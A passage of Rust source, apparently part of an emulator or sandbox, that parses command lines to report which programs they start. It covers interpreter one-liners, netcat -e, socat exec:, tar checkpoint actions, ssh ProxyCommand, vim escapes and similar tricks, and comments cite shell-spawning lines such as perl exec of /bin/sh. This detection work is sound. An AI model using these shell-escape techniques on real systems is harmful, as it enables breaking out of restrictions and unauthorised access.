//! What a program starts because its own arguments say so: `find -exec`'s
//! command, the shell an interpreter's `system("…")` runs, the program
//! `perl -e 'exec "/bin/sh"'` becomes, `nc -e`'s program, vim's `:!`
//! escape, tar's checkpoint action … A real host's kernel reports these
//! execs under that program, so the injector must too.
//!
//! Each rule follows the program's manual: whether it runs the command
//! itself (execs in its own process), forks a child for it, or hands a
//! string to `/bin/sh -c`. Only literal code is read: a command the code
//! builds at run time is not known.

use super::basename;

/// How a program starts another one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Start {
    /// Execs `argv` in its own process (`exec`, `os.execl`, `nc -e`).
    Replace(Vec<String>),
    /// Forks a child that execs `argv` (`find -exec`, `pty.spawn`).
    Child(Vec<String>),
    /// Forks a child `sh -c SCRIPT` (`system`, `popen`, vim's `:!`).
    Shell(String),
    /// Execs `sh -c SCRIPT` in its own process (perl's `exec` of a string
    /// with shell syntax, `nc -c`).
    ReplaceShell(String),
}

/// The most starts one program's arguments give (an awk program full of
/// `system()` calls stays small).
pub const MAX_STARTS: usize = 8;

/// What `argv`'s program starts from its arguments, in order.
pub fn starts(argv: &[String]) -> Vec<Start> {
    let Some(first) = argv.first() else {
        return Vec::new();
    };
    let prog = basename(first);
    let args = &argv[1..];
    let mut out = match family(prog) {
        Some(Lang::Awk) => awk(args),
        Some(lang) => code_args(lang, args)
            .into_iter()
            .flat_map(|c| code(lang, &c))
            .collect(),
        None => program(prog, args),
    };
    out.truncate(MAX_STARTS);
    out
}

/// Interpreters whose code arguments may start programs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Lang {
    Python,
    Perl,
    Ruby,
    Php,
    Node,
    Lua,
    Awk,
    Expect,
    R,
    Jvm,
}

fn family(prog: &str) -> Option<Lang> {
    let stem = prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match stem {
        "python" | "pypy" | "python3-" => Lang::Python,
        "perl" => Lang::Perl,
        "ruby" | "jruby" => Lang::Ruby,
        "php" | "php-cli" => Lang::Php,
        "node" | "nodejs" => Lang::Node,
        "lua" | "luajit" | "texlua" => Lang::Lua,
        "awk" | "gawk" | "mawk" | "nawk" => Lang::Awk,
        "expect" => Lang::Expect,
        "R" | "Rscript" => Lang::R,
        "jjs" | "jrunscript" => Lang::Jvm,
        _ => return None,
    })
}

/// The code an interpreter is given on its command line.
fn code_args(lang: Lang, args: &[String]) -> Vec<String> {
    let flags: &[&str] = match lang {
        Lang::Python => &["-c"],
        Lang::Perl => &["-e", "-E"],
        Lang::Ruby | Lang::Lua | Lang::R | Lang::Jvm => &["-e"],
        Lang::Php => &["-r"],
        Lang::Node => &["-e", "--eval", "-p", "--print"],
        Lang::Expect => &["-c"],
        Lang::Awk => &[],
    };
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if flags.contains(&a) {
            if let Some(c) = args.get(i + 1) {
                out.push(c.clone());
            }
            i += 2;
            continue;
        }
        // `-ne`, `-lpe`, `-e'code'` and `--eval=code`.
        if let Some(c) = a
            .strip_prefix("--eval=")
            .or_else(|| a.strip_prefix("--print="))
        {
            out.push(c.to_string());
        } else if a.starts_with('-')
            && !a.starts_with("--")
            && a.len() > 2
            && matches!(lang, Lang::Perl | Lang::Ruby)
            && let Some(p) = a.find(['e', 'E'])
        {
            match &a[p + 1..] {
                "" => {
                    if let Some(c) = args.get(i + 1) {
                        out.push(c.clone());
                    }
                    i += 1;
                }
                rest => out.push(rest.to_string()),
            }
        } else if lang == Lang::Python && a.len() > 2 && a.starts_with("-c") {
            out.push(a[2..].to_string());
        }
        i += 1;
    }
    out
}

/// The calls that start programs in one interpreter's code.
fn code(lang: Lang, src: &str) -> Vec<Start> {
    let mut out = Vec::new();
    let mut push = |s: Option<Start>| {
        if let Some(s) = s
            && out.len() < MAX_STARTS
        {
            out.push(s);
        }
    };
    match lang {
        Lang::Python => {
            let names: Vec<&str> = PY_SHELL
                .iter()
                .chain(PY_CHILD)
                .chain(PY_EXEC)
                .copied()
                .collect();
            for (_, name, args, rest) in calls_at(src, &names, false) {
                if PY_SHELL.contains(&name) {
                    push(first_string(&args).map(Start::Shell));
                } else if PY_CHILD.contains(&name) {
                    let shell = rest.contains("shell=True")
                        || name.ends_with("getoutput")
                        || name.ends_with("getstatusoutput");
                    push(match (&args[..], shell) {
                        ([Lit::Str(s), ..], true) => Some(Start::Shell(s.clone())),
                        ([Lit::Str(s), ..], false) => Some(Start::Child(split(s))),
                        ([Lit::List(l), ..], _) if !l.is_empty() => Some(Start::Child(l.clone())),
                        _ => None,
                    });
                } else {
                    push(exec_call(name, &args).map(|argv| {
                        if name.contains("spawn") {
                            Start::Child(argv)
                        } else {
                            Start::Replace(argv)
                        }
                    }));
                }
            }
        }
        Lang::Perl | Lang::Ruby => {
            for (name, args, _) in calls(src, &["system", "exec", "spawn", "IO.popen"]) {
                let argv: Vec<String> = args
                    .iter()
                    .flat_map(|a| match a {
                        Lit::Str(s) => vec![s.clone()],
                        Lit::List(l) => l.clone(),
                    })
                    .collect();
                let exec = name == "exec";
                let start = match argv.len() {
                    0 => None,
                    // One string: through `sh -c` only if it has shell
                    // syntax, else split into words and exec'd directly.
                    1 if has_shell_syntax(&argv[0]) => Some(if exec {
                        Start::ReplaceShell(argv[0].clone())
                    } else {
                        Start::Shell(argv[0].clone())
                    }),
                    _ => {
                        let words = if argv.len() == 1 {
                            split(&argv[0])
                        } else {
                            argv
                        };
                        Some(if exec {
                            Start::Replace(words)
                        } else {
                            Start::Child(words)
                        })
                    }
                };
                push(start);
            }
            for s in quoted_commands(src, lang == Lang::Ruby) {
                push(Some(Start::Shell(s)));
            }
        }
        Lang::Php => {
            for (_, args, _) in calls(
                src,
                &[
                    "system",
                    "exec",
                    "shell_exec",
                    "passthru",
                    "popen",
                    "proc_open",
                ],
            ) {
                push(first_string(&args).map(Start::Shell));
            }
            for (_, args, _) in calls(src, &["pcntl_exec"]) {
                push(match &args[..] {
                    [Lit::Str(p), Lit::List(l), ..] => {
                        let mut argv = vec![p.clone()];
                        argv.extend(l.iter().cloned());
                        Some(Start::Replace(argv))
                    }
                    [Lit::Str(p), ..] => Some(Start::Replace(vec![p.clone()])),
                    _ => None,
                });
            }
            for s in quoted_commands(src, false) {
                push(Some(Start::Shell(s)));
            }
        }
        Lang::Node => {
            // `.exec(` is also a regular expression's method: only with
            // child_process in the code.
            if src.contains("child_process") {
                for (_, _, args, _) in calls_at(src, &["execSync", "exec"], true) {
                    push(first_string(&args).map(Start::Shell));
                }
                for (_, _, args, _) in calls_at(
                    src,
                    &["spawnSync", "spawn", "execFileSync", "execFile", "fork"],
                    true,
                ) {
                    push(match &args[..] {
                        [Lit::Str(p), Lit::List(l), ..] => {
                            let mut argv = vec![p.clone()];
                            argv.extend(l.iter().cloned());
                            Some(Start::Child(argv))
                        }
                        [Lit::Str(p), ..] => Some(Start::Child(vec![p.clone()])),
                        _ => None,
                    });
                }
            }
        }
        Lang::Lua => {
            for (_, args, _) in calls(src, &["os.execute", "io.popen"]) {
                push(first_string(&args).map(Start::Shell));
            }
        }
        Lang::R => {
            for (_, args, _) in calls(src, &["system", "system2", "pipe"]) {
                push(first_string(&args).map(Start::Shell));
            }
        }
        Lang::Jvm => {
            for (_, args, _) in calls(src, &["exec", "ProcessBuilder"]) {
                push(match &args[..] {
                    [Lit::Str(s), ..] => Some(Start::Child(split(s))),
                    [Lit::List(l), ..] if !l.is_empty() => Some(Start::Child(l.clone())),
                    _ => None,
                });
            }
        }
        Lang::Expect => {
            // Tcl: `spawn prog args` forks it; `exec prog args` too.
            for stmt in src.split([';', '\n']) {
                let ws = split(stmt.trim());
                if let Some((k, rest)) = ws.split_first()
                    && matches!(k.as_str(), "spawn" | "exec")
                    && !rest.is_empty()
                {
                    push(Some(Start::Child(rest.to_vec())));
                }
            }
        }
        Lang::Awk => out.extend(awk_program(src)),
    }
    out
}

/// Python calls that run a string through `sh -c`.
const PY_SHELL: &[&str] = &[
    "os.system",
    "os.popen",
    "commands.getoutput",
    "popen2.popen2",
];
/// Python calls that fork a child (through `sh -c` with `shell=True`).
const PY_CHILD: &[&str] = &[
    "pty.spawn",
    "subprocess.call",
    "subprocess.run",
    "subprocess.Popen",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
];
/// `os.exec*` replace the process, `os.spawn*` fork: `(path, arg0, args…)`
/// or `(path, [arg0, args…])`.
const PY_EXEC: &[&str] = &[
    "os.execl",
    "os.execle",
    "os.execlp",
    "os.execv",
    "os.execve",
    "os.execvp",
    "os.spawnl",
    "os.spawnlp",
    "os.spawnv",
    "os.spawnvp",
];

/// `os.execl("/bin/sh", "sh", "-i")` and friends: the path, then the
/// arguments after argv[0]. (`os.spawn*` take a mode first.)
fn exec_call(name: &str, args: &[Lit]) -> Option<Vec<String>> {
    let args = if name.contains("spawn") {
        args.get(1..)?
    } else {
        args
    };
    let Lit::Str(path) = args.first()? else {
        return None;
    };
    let mut argv = vec![path.clone()];
    match args.get(1) {
        Some(Lit::List(l)) => argv.extend(l.iter().skip(1).cloned()),
        _ => argv.extend(args.iter().skip(2).filter_map(|a| match a {
            Lit::Str(s) => Some(s.clone()),
            Lit::List(_) => None,
        })),
    }
    Some(argv)
}

fn has_shell_syntax(s: &str) -> bool {
    s.contains([
        '|', '&', ';', '<', '>', '(', ')', '$', '`', '*', '?', '[', '\n', '\'', '"',
    ])
}

fn first_string(args: &[Lit]) -> Option<String> {
    match args.first()? {
        Lit::Str(s) if !s.trim().is_empty() => Some(s.clone()),
        _ => None,
    }
}

/// A literal argument of a call.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Lit {
    Str(String),
    List(Vec<String>),
}

/// Each call of one of `names` in `src`: the name, its leading literal
/// arguments and the rest of the text of its line. Perl's and Ruby's
/// parenthesis-less calls (`exec "/bin/sh"`) count too; `names` match at a
/// word boundary, so `os.system` is not `system`'s and `pexec` is not
/// `exec`'s.
fn calls<'a>(src: &str, names: &[&'a str]) -> Vec<(&'a str, Vec<Lit>, String)> {
    calls_at(src, names, false)
        .into_iter()
        .map(|(_, n, a, r)| (n, a, r))
        .collect()
}

/// `calls`, each with its offset in `src`, in the order they appear;
/// `methods`: an undotted name called as a method counts too.
fn calls_at<'a>(
    src: &str,
    names: &[&'a str],
    methods: bool,
) -> Vec<(usize, &'a str, Vec<Lit>, String)> {
    let mut out = Vec::new();
    let b = src.as_bytes();
    for &name in names {
        let mut from = 0;
        while let Some(p) = src[from..].find(name).map(|p| p + from) {
            from = p + name.len();
            let before = src[..p].chars().next_back();
            // A method of some object (`conn.exec(…)`, `$db->exec(…)`) is
            // not the language's own `exec`; only Node's child_process
            // methods are called on an object.
            let method = before == Some('.') || src[..p].ends_with("->");
            let boundary = before.is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '$'))
                && (!method || (methods && !name.contains('.')));
            let after = b.get(from).copied();
            if !boundary || after.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_') {
                continue;
            }
            let rest = &src[from..];
            let trimmed = rest.trim_start();
            let (inner, paren) = match trimmed.strip_prefix('(') {
                Some(r) => (r, true),
                None => (trimmed, false),
            };
            // `exec` alone as a Perl statement needs an argument after a
            // space; `.exec` (a method) is not Perl's exec.
            if !paren && (before == Some('.') || rest.len() == trimmed.len()) {
                continue;
            }
            let args = literals(inner);
            if !args.is_empty() {
                let line_end = rest.find('\n').unwrap_or(rest.len());
                out.push((p, name, args, rest[..line_end].to_string()));
            }
            if out.len() >= MAX_STARTS {
                break;
            }
        }
    }
    out.sort_by_key(|c| c.0);
    out
}

/// The leading literal arguments of a call's argument text: strings (in
/// single, double or back quotes) and lists of strings, separated by commas.
fn literals(s: &str) -> Vec<Lit> {
    let mut out = Vec::new();
    let mut rest = s.trim_start();
    // A Python keyword argument: `args=[…]`.
    while out.len() < 16 {
        if let Some(r) = rest.strip_prefix("args=") {
            rest = r.trim_start();
        }
        if let Some((lit, r)) = string(rest) {
            out.push(Lit::Str(lit));
            rest = r;
        } else if let Some(r) = rest
            .strip_prefix('[')
            .or_else(|| rest.strip_prefix("array("))
        {
            let mut items = Vec::new();
            let mut r = r.trim_start();
            while let Some((lit, after)) = string(r) {
                items.push(lit);
                r = after.trim_start();
                r = r.strip_prefix(',').unwrap_or(r).trim_start();
                if items.len() > 64 {
                    break;
                }
            }
            out.push(Lit::List(items));
            rest = r.trim_start_matches([']', ')']);
        } else {
            break;
        }
        rest = rest.trim_start();
        match rest.strip_prefix(',') {
            Some(r) => rest = r.trim_start(),
            None => break,
        }
    }
    out
}

/// A quoted string at the start of `s` and the text after it.
fn string(s: &str) -> Option<(String, &str)> {
    let q = s.chars().next()?;
    if !matches!(q, '"' | '\'') {
        return None;
    }
    let mut lit = String::new();
    let mut chars = s[1..].char_indices().take(1 << 14);
    while let Some((i, c)) = chars.next() {
        match c {
            '\\' => {
                if let Some((_, n)) = chars.next() {
                    lit.push(match n {
                        'n' => '\n',
                        't' => '\t',
                        _ => n,
                    });
                }
            }
            c if c == q => return Some((lit, &s[1 + i + 1..])),
            c => lit.push(c),
        }
    }
    None
}

/// Perl's, Ruby's and PHP's command quotes: `` `cmd` ``, `qx{cmd}`,
/// `%x(cmd)`, and Perl's piped `open(F, "cmd|")`.
fn quoted_commands(src: &str, ruby: bool) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = src;
    while let Some(p) = rest.find('`') {
        let Some(e) = rest[p + 1..].find('`') else {
            break;
        };
        let cmd = &rest[p + 1..p + 1 + e];
        if !cmd.trim().is_empty() {
            out.push(cmd.to_string());
        }
        rest = &rest[p + 1 + e + 1..];
    }
    let openers: &[&str] = if ruby { &["%x"] } else { &["qx"] };
    for opener in openers {
        let mut rest = src;
        let mut tries = 0;
        while let Some(p) = rest.find(opener) {
            tries += 1;
            if tries > 64 || out.len() >= MAX_STARTS {
                break;
            }
            let after = &rest[p + opener.len()..];
            let boundary = rest[..p]
                .chars()
                .next_back()
                .is_none_or(|c| !c.is_alphanumeric() && c != '_');
            let Some(open) = after.chars().next() else {
                break;
            };
            let close = match open {
                '{' => '}',
                '(' => ')',
                '[' => ']',
                '<' => '>',
                c if c.is_ascii_punctuation() => c,
                _ => {
                    rest = after;
                    continue;
                }
            };
            if boundary && let Some(e) = after[1..].find(close) {
                out.push(after[1..1 + e].to_string());
                rest = &after[1 + e..];
            } else {
                rest = after;
            }
        }
    }
    // open(F, "cmd |") and open(F, "| cmd"); the three-argument "-|".
    for (_, args, _) in calls(src, &["open"]) {
        for a in &args {
            if let Lit::Str(s) = a {
                let t = s.trim();
                if let Some(c) = t.strip_suffix('|').or_else(|| t.strip_prefix('|'))
                    && !c.trim().is_empty()
                {
                    out.push(c.trim().to_string());
                }
            }
        }
        if let [_, Lit::Str(mode), Lit::Str(cmd), ..] = &args[..]
            && matches!(mode.as_str(), "-|" | "|-")
        {
            out.push(cmd.clone());
        }
    }
    out
}

/// awk's program: the first argument that is not an option (`-F x`,
/// `-v a=b` take a value).
fn awk(args: &[String]) -> Vec<Start> {
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        match a {
            "-F" | "-v" | "-f" => i += 2,
            "--" => {
                i += 1;
                break;
            }
            _ if a.starts_with('-') && a.len() > 1 => i += 1,
            _ => break,
        }
    }
    // `-f file`: the program is in a file, not known here.
    if args[..i.min(args.len())].iter().any(|a| a == "-f") {
        return Vec::new();
    }
    args.get(i).map(|p| awk_program(p)).unwrap_or_default()
}

/// awk's `system("cmd")`, `"cmd" | getline` and `print … | "cmd"`: each
/// runs `sh -c cmd`.
fn awk_program(src: &str) -> Vec<Start> {
    let mut out: Vec<Start> = calls(src, &["system"])
        .into_iter()
        .filter_map(|(_, a, _)| first_string(&a).map(Start::Shell))
        .collect();
    for (i, _) in src.match_indices('|').take(1024) {
        if out.len() >= MAX_STARTS {
            break;
        }
        let after = src[i + 1..].trim_start();
        if after.starts_with("getline") {
            // The string before the pipe.
            let before = src[..i].trim_end();
            if let Some(body) = before.strip_suffix('"')
                && let Some(s) = body.rfind('"')
            {
                out.push(Start::Shell(body[s + 1..].to_string()));
            }
        } else if let Some((s, _)) = string(after) {
            out.push(Start::Shell(s));
        }
    }
    out
}

/// Words of a command string, as a program that splits it on blanks (and
/// honours quotes) would pass them to exec.
pub fn split(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut w = String::new();
    let (mut in_w, mut q) = (false, None::<char>);
    for c in s.chars() {
        match (q, c) {
            (None, '\'' | '"') => {
                q = Some(c);
                in_w = true;
            }
            (Some(open), c) if c == open => q = None,
            (None, c) if c.is_whitespace() => {
                if in_w {
                    out.push(std::mem::take(&mut w));
                    in_w = false;
                }
            }
            (_, c) => {
                w.push(c);
                in_w = true;
            }
        }
        if out.len() >= 256 {
            break;
        }
    }
    if in_w {
        out.push(w);
    }
    out
}

/// The value of option `name` (`-x v`, `-xv`, `--name v`, `--name=v`).
fn option<'a>(args: &'a [String], names: &[&str]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        for n in names {
            // `-qc cmd`: flags grouped before the one that takes a value.
            let grouped = n.len() == 2
                && a.len() > 2
                && a.starts_with('-')
                && !a.starts_with("--")
                && a.ends_with(&n[1..])
                && a[1..].chars().all(|c| c.is_ascii_alphabetic());
            if a == *n || grouped {
                if let Some(v) = args.get(i + 1) {
                    out.push(v.as_str());
                }
            } else if let Some(v) = a.strip_prefix(n) {
                if n.starts_with("--") {
                    if let Some(v) = v.strip_prefix('=') {
                        out.push(v);
                    }
                } else if n.len() == 2 && !v.is_empty() {
                    out.push(v);
                }
            }
        }
        i += 1;
    }
    out
}

/// Programs that are not interpreters but run a command they are given.
fn program(prog: &str, args: &[String]) -> Vec<Start> {
    let shell_of = |cmds: Vec<&str>| -> Vec<Start> {
        cmds.into_iter()
            .map(str::trim)
            .filter(|c| !c.is_empty())
            .map(|c| Start::Shell(c.to_string()))
            .collect()
    };
    match prog {
        "find" => {
            let mut out = Vec::new();
            let mut i = 0;
            while i < args.len() {
                if matches!(args[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                    let cmd: Vec<String> = args[i + 1..]
                        .iter()
                        .take_while(|a| *a != ";" && *a != "+")
                        .cloned()
                        .collect();
                    i += cmd.len() + 1;
                    if !cmd.is_empty() {
                        out.push(Start::Child(cmd));
                    }
                }
                i += 1;
            }
            out
        }
        // Commands typed with `-c`: vim's `:!cmd` runs a shell, `:py …` the
        // editor's own Python, in its process.
        "vi" | "vim" | "nvim" | "rvim" | "view" | "ex" | "vimdiff" => {
            let mut cmds = option(args, &["-c", "--cmd"]);
            cmds.extend(args.iter().filter_map(|a| a.strip_prefix('+')));
            cmds.into_iter().flat_map(editor_command).collect()
        }
        "gdb" => option(args, &["-ex", "--eval-command", "-iex"])
            .into_iter()
            .flat_map(|c| {
                let c = c.trim();
                if let Some(r) = c.strip_prefix('!').or_else(|| c.strip_prefix("shell ")) {
                    vec![Start::Shell(r.trim().to_string())]
                } else if let Some(py) = c.strip_prefix("python ").or_else(|| c.strip_prefix("py "))
                {
                    code(Lang::Python, py)
                } else {
                    Vec::new()
                }
            })
            .collect(),
        "mysql" | "mariadb" => shell_of(
            option(args, &["-e", "--execute"])
                .into_iter()
                .filter_map(|c| {
                    let c = c.trim();
                    c.strip_prefix("\\!").or_else(|| c.strip_prefix("system "))
                })
                .collect(),
        ),
        "psql" => shell_of(
            option(args, &["-c", "--command"])
                .into_iter()
                .filter_map(|c| c.trim().strip_prefix("\\!"))
                .collect(),
        ),
        "sqlite3" => shell_of(
            args.iter()
                .filter_map(|a| {
                    let a = a.trim();
                    a.strip_prefix(".shell ")
                        .or_else(|| a.strip_prefix(".system "))
                })
                .collect(),
        ),
        "rpm" | "rpmbuild" | "rpmdb" | "rpmquery" | "rpmverify" | "rpmspec" => {
            let mut out = Vec::new();
            for a in option(args, &["--eval", "-E"]) {
                for c in rpm_shell(a) {
                    out.push(Start::Shell(c));
                }
            }
            out
        }
        "tar" | "gtar" => {
            let mut out = Vec::new();
            for a in args {
                if let Some(c) = a
                    .strip_prefix("--checkpoint-action=exec=")
                    .or_else(|| a.strip_prefix("--checkpoint-action=exec:"))
                {
                    out.push(Start::Shell(c.to_string()));
                }
            }
            out.extend(shell_of(option(
                args,
                &[
                    "--to-command",
                    "--use-compress-program",
                    "-I",
                    "--info-script",
                    "-F",
                ],
            )));
            out
        }
        "zip" => shell_of(option(args, &["-TT", "--unzip-command"])),
        "ssh" | "scp" | "sftp" | "check_by_ssh" => {
            let mut out = Vec::new();
            let opts = option(args, &["-o"]);
            let local = opts
                .iter()
                .any(|o| o.to_ascii_lowercase().replace(' ', "=") == "permitlocalcommand=yes");
            for o in opts {
                let (k, v) = o
                    .split_once(['=', ' '])
                    .map_or((o, ""), |(k, v)| (k, v.trim_start_matches('=')));
                let k = k.to_ascii_lowercase();
                if (k == "proxycommand" || (k == "localcommand" && local))
                    && !v.trim().is_empty()
                    && v.trim() != "none"
                {
                    // ssh runs `$SHELL -c "exec CMD"`.
                    out.push(Start::Shell(format!("exec {}", v.trim())));
                }
            }
            out
        }
        "rsync" => option(args, &["-e", "--rsh"])
            .into_iter()
            .map(|c| Start::Child(split(c)))
            .filter(|s| !matches!(s, Start::Child(v) if v.is_empty()))
            .collect(),
        // Traditional netcat execs its program in its own process after the
        // connection is made; OpenBSD's nc has no -e.
        "nc" | "netcat" | "nc.traditional" => {
            let mut out: Vec<Start> = option(args, &["-e"])
                .into_iter()
                .map(|p| Start::Replace(split(p)))
                .collect();
            out.extend(
                option(args, &["-c"])
                    .into_iter()
                    .map(|c| Start::ReplaceShell(c.to_string())),
            );
            out
        }
        "ncat" => {
            let mut out: Vec<Start> = option(args, &["-e", "--exec"])
                .into_iter()
                .map(|p| Start::Child(split(p)))
                .collect();
            out.extend(shell_of(option(args, &["-c", "--sh-exec"])));
            out
        }
        "socat" => args
            .iter()
            .filter_map(|a| {
                let (kind, rest) = a.split_once(':')?;
                let cmd = rest
                    .split(',')
                    .next()
                    .unwrap_or("")
                    .trim_matches(['"', '\'']);
                if cmd.is_empty() {
                    return None;
                }
                match kind.to_ascii_lowercase().as_str() {
                    "exec" => Some(Start::Child(split(cmd))),
                    "system" => Some(Start::Shell(cmd.to_string())),
                    _ => None,
                }
            })
            .collect(),
        "gcc" | "cc" | "g++" | "c++" | "clang" | "clang++" => option(args, &["-wrapper"])
            .into_iter()
            .map(|w| Start::Child(w.split(',').map(String::from).collect()))
            .collect(),
        "bpftrace" => option(args, &["-c"])
            .into_iter()
            .map(|c| Start::Child(split(c)))
            .collect(),
        "start-stop-daemon" => {
            let exe = option(args, &["--startas", "-a", "--exec", "-x"]);
            let start = args.iter().any(|a| a == "--start" || a == "-S");
            match (exe.first(), start) {
                (Some(p), true) => {
                    let mut argv = vec![p.to_string()];
                    if let Some(d) = args.iter().position(|a| a == "--") {
                        argv.extend(args[d + 1..].iter().cloned());
                    }
                    vec![Start::Replace(argv)]
                }
                _ => Vec::new(),
            }
        }
        "xdotool" => args
            .iter()
            .position(|a| a == "exec")
            .map(|p| {
                args[p + 1..]
                    .iter()
                    .skip_while(|a| a.starts_with("--"))
                    .cloned()
                    .collect::<Vec<_>>()
            })
            .filter(|v| !v.is_empty())
            .map(|v| vec![Start::Child(v)])
            .unwrap_or_default(),
        // capsh's `--` runs bash with the rest, in its own process.
        "capsh" => args
            .iter()
            .position(|a| a == "--")
            .map(|p| {
                let mut argv = vec!["/bin/bash".to_string()];
                argv.extend(args[p + 1..].iter().cloned());
                vec![Start::Replace(argv)]
            })
            .unwrap_or_default(),
        // `ip netns exec NS cmd`, `ip vrf exec NAME cmd`: execs in place.
        "ip" => {
            let words: Vec<&str> = args
                .iter()
                .map(String::as_str)
                .filter(|a| !a.starts_with('-'))
                .collect();
            match words.as_slice() {
                ["netns" | "vrf", "exec", _, ..] => {
                    let p = args.iter().position(|a| a == "exec").unwrap_or(0);
                    let cmd: Vec<String> = args.iter().skip(p + 2).cloned().collect();
                    if cmd.is_empty() {
                        Vec::new()
                    } else {
                        vec![Start::Replace(cmd)]
                    }
                }
                _ => Vec::new(),
            }
        }
        // script forks the user's shell, with `-c` as its command.
        "script" => {
            let cmds = option(args, &["-c", "--command"]);
            if cmds.is_empty() {
                vec![Start::Child(vec!["sh".into()])]
            } else {
                shell_of(cmds)
            }
        }
        "man" => shell_of(option(args, &["-P", "--pager"])),
        "apt-get" | "apt" => shell_of(
            option(args, &["-o"])
                .into_iter()
                .filter_map(|o| {
                    let (k, v) = o.split_once('=')?;
                    (k.contains("Pre-Invoke") || k.contains("Post-Invoke")).then_some(v)
                })
                .collect(),
        ),
        "sg" => shell_of(option(args, &["-c"])),
        // Options whose value is a command line run by `sh -c`.
        "split" => shell_of(option(args, &["--filter"])),
        "scrot" => shell_of(option(args, &["-e", "--exec"])),
        "certbot" => shell_of(option(
            args,
            &[
                "--pre-hook",
                "--post-hook",
                "--deploy-hook",
                "--manual-auth-hook",
            ],
        )),
        "enscript" => shell_of(option(args, &["-I", "--filter"])),
        "csvtool" => args
            .iter()
            .position(|a| a == "call")
            .and_then(|p| args.get(p + 1))
            .map(|c| vec![Start::Shell(c.clone())])
            .unwrap_or_default(),
        "lftp" | "dc" => shell_of(
            option(args, &["-c", "-e"])
                .into_iter()
                .filter_map(|c| c.trim().strip_prefix('!'))
                .collect(),
        ),
        "mail" | "mailx" => shell_of(
            option(args, &["--exec", "-E"])
                .into_iter()
                .filter_map(|c| c.trim().strip_prefix('!'))
                .collect(),
        ),
        "hg" => shell_of(
            option(args, &["--config"])
                .into_iter()
                .filter_map(|c| {
                    c.split_once("='!")
                        .map(|(_, v)| v)
                        .or_else(|| c.split_once("=!").map(|(_, v)| v))
                })
                .collect(),
        ),
        "make" | "gmake" => shell_of(
            option(args, &["--eval"])
                .into_iter()
                .flat_map(|e| enclosed(e, "$(shell ", ')'))
                .collect(),
        ),
        "tex" | "latex" | "pdftex" | "pdflatex" | "xelatex" | "lualatex" | "luatex" | "etex" => {
            if args
                .iter()
                .any(|a| a == "--shell-escape" || a == "-shell-escape")
            {
                shell_of(
                    args.iter()
                        .flat_map(|a| enclosed(a, "\\write18{", '}'))
                        .collect(),
                )
            } else {
                Vec::new()
            }
        }
        "fzf" => shell_of(
            option(args, &["--bind"])
                .into_iter()
                .filter_map(|b| {
                    let (_, rest) = b.split_once("execute(")?;
                    rest.strip_suffix(')')
                })
                .collect(),
        ),
        "socket" => option(args, &["-p"])
            .into_iter()
            .map(|c| Start::Shell(c.to_string()))
            .collect(),
        // Options whose value is a program, split into words and exec'd.
        "restic" => option(args, &["--password-command"])
            .into_iter()
            .map(|c| Start::Child(split(c)))
            .collect(),
        "borg" | "sshuttle" => option(args, &["--rsh", "--ssh-cmd", "-e"])
            .into_iter()
            .map(|c| Start::Child(split(c)))
            .collect(),
        "openvpn" => option(args, &["--up", "--down", "--route-up", "--ipchange"])
            .into_iter()
            .map(|c| Start::Child(split(c)))
            .collect(),
        "dhclient" => option(args, &["-sf"])
            .into_iter()
            .map(|c| Start::Child(vec![c.to_string()]))
            .collect(),
        "aria2c" => args
            .iter()
            .filter_map(|a| {
                a.strip_prefix("--on-download-complete=")
                    .or_else(|| a.strip_prefix("--on-download-error="))
                    .or_else(|| a.strip_prefix("--on-download-start="))
            })
            .map(|c| Start::Child(vec![c.to_string()]))
            .collect(),
        "ksu" => option(args, &["-e"])
            .into_iter()
            .map(|c| {
                let mut argv = vec![c.to_string()];
                if let Some(p) = args.iter().position(|a| a == c) {
                    argv.extend(args[p + 1..].iter().cloned());
                }
                Start::Child(argv)
            })
            .collect(),
        // `exec` subcommands that run a program in a child.
        "bundle" | "npm" | "npx" | "cabal" | "pnpm" | "yarn" | "poetry" | "uv" => {
            let words: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
            match words.split_first() {
                Some((sub, rest)) if matches!(sub.as_str(), "exec" | "x") && !rest.is_empty() => {
                    let p = args.iter().position(|a| a == *sub).unwrap_or(0);
                    let cmd: Vec<String> = args[p + 1..]
                        .iter()
                        .skip_while(|a| a.starts_with('-'))
                        .cloned()
                        .collect();
                    if cmd.is_empty() {
                        Vec::new()
                    } else {
                        vec![Start::Child(cmd)]
                    }
                }
                _ => Vec::new(),
            }
        }
        // Other languages' one-liners calling the system shell.
        "guile" | "slsh" | "gnuplot" | "octave" | "octave-cli" | "clisp" | "ghc" | "julia"
        | "genie" | "gem" | "puppet" => {
            let mut out = Vec::new();
            for a in args {
                for (_, lits, _) in
                    calls(a, &["system", "callCommand", "run-shell-command", "exec"])
                {
                    if let Some(s) = first_string(&lits) {
                        out.push(Start::Shell(s));
                    }
                }
                if let Some(r) = a.find("run(`")
                    && let Some(e) = a[r + 5..].find('`')
                {
                    out.push(Start::Child(split(&a[r + 5..r + 5 + e])));
                }
            }
            out
        }
        _ => Vec::new(),
    }
}

/// The bodies of `open…close` in `text`, at most [`MAX_STARTS`]: make's
/// `$(shell cmd)`, TeX's `\write18{cmd}` (with shell escape on).
fn enclosed<'a>(text: &'a str, open: &str, close: char) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(p) = rest.find(open) {
        let body = &rest[p + open.len()..];
        let Some(e) = body.find(close) else { break };
        out.push(&body[..e]);
        rest = &body[e..];
        if out.len() >= MAX_STARTS {
            break;
        }
    }
    out
}

/// A command typed into vim with `-c` or `+`.
fn editor_command(c: &str) -> Vec<Start> {
    let c = c.trim().trim_start_matches(':').trim();
    if let Some(r) = c.strip_prefix('!') {
        return if r.trim().is_empty() {
            Vec::new()
        } else {
